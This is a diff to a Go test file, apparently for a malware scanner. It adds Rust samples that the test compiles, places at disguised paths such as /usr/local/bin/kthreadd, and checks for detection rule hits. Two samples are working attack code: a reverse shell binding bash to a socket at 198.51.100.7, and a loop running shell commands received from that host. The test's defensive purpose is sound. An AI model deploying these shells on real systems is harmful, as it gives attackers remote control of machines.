@@ -53,6 +53,65 @@ func main() {
 	fmt.Println(resp.Status)
 }
 `
+	// Rust: a shell on the connection's descriptor, a loop running what the connection sends,
+	// and two tools that are neither.
+	rustFdShell = `use std::net::TcpStream;
+use std::os::unix::io::{AsRawFd, FromRawFd};
+use std::process::{Command, Stdio};
+
+fn main() {
+    let c = TcpStream::connect("198.51.100.7:8443").expect("connect");
+    let fd = c.as_raw_fd();
+    let mut child = Command::new("/bin/bash")
+        .arg("-i")
+        .stdin(unsafe { Stdio::from_raw_fd(fd) })
+        .stdout(unsafe { Stdio::from_raw_fd(fd) })
+        .stderr(unsafe { Stdio::from_raw_fd(fd) })
+        .spawn()
+        .expect("spawn");
+    let _ = child.wait();
+}
+`
+	rustCommandLoop = `use std::io::{BufRead, BufReader, Write};
+use std::net::TcpStream;
+use std::process::Command;
+
+fn main() {
+    loop {
+        if let Ok(mut c) = TcpStream::connect("198.51.100.7:443") {
+            let mut r = BufReader::new(c.try_clone().unwrap());
+            let mut line = String::new();
+            while r.read_line(&mut line).unwrap_or(0) > 0 {
+                let out = Command::new("sh").arg("-c").arg(line.trim()).output();
+                if let Ok(o) = out {
+                    let _ = c.write_all(&o.stdout);
+                }
+                line.clear();
+            }
+        }
+        std::thread::sleep(std::time::Duration::from_secs(30));
+    }
+}
+`
+	rustReporter = `use std::io::Write;
+use std::net::TcpStream;
+use std::process::Command;
+
+fn main() {
+    let o = Command::new("uname").arg("-a").output().expect("uname");
+    let mut s = TcpStream::connect("127.0.0.1:9100").expect("connect");
+    s.write_all(&o.stdout).expect("send");
+}
+`
+	rustHookRunner = `use std::process::Command;
+
+fn main() {
+    for hook in std::env::args().skip(1) {
+        let st = Command::new("/bin/sh").arg("-c").arg(&hook).status().expect("run");
+        println!("{}: {}", hook, st);
+    }
+}
+`
 	cStaticShell = `#include <arpa/inet.h>
 #include <sys/socket.h>
 #include <unistd.h>
@@ -181,6 +240,14 @@ func build(t *testing.T, lang, src string, args ...string) []byte {
 		}
 		cmd = exec.Command(goTool(t), append([]string{"build", "-o", out}, args...)...)
 		cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod")
+	case "rust":
+		if _, err := exec.LookPath("rustc"); err != nil {
+			t.Skip("rustc is not installed")
+		}
+		if err := os.WriteFile(filepath.Join(dir, "main.rs"), []byte(src), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		cmd = exec.Command("rustc", append(args, "-o", out, filepath.Join(dir, "main.rs"))...)
 	case "c":
 		if _, err := exec.LookPath("gcc"); err != nil {
 			t.Skip("gcc is not installed")
@@ -236,6 +303,11 @@ func TestCompiledBehaviour(t *testing.T) {
 		{"pty preload backdoor", "c", cPtyBackdoor, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libcache.so", "STRATA-LP-005/critical STRATA-LP-006/high"},
 		{"readdir hider", "c", cHider, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libhide.so", "STRATA-LP-005/high STRATA-LP-006/high"},
 		{"fopen interposer", "c", cInterposer, []string{"-shared", "-fPIC"}, "/usr/lib/libtrace.so", "STRATA-LP-005/low"},
+		{"rust shell on the connection", "rust", rustFdShell, []string{"-O"}, "/usr/local/bin/kthreadd", "STRATA-RS-021/high"},
+		{"stripped rust shell on the connection", "rust", rustFdShell, []string{"-O", "-C", "strip=symbols"}, "/usr/local/bin/kthreadd", "STRATA-RS-021/high"},
+		{"rust command loop", "rust", rustCommandLoop, []string{"-O", "-C", "strip=symbols"}, "/opt/agent/agent", "STRATA-RS-021/high"},
+		{"rust client running a program", "rust", rustReporter, []string{"-O"}, "/usr/local/bin/report", ""},
+		{"rust hook runner", "rust", rustHookRunner, []string{"-O"}, "/usr/local/bin/hooks", ""},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
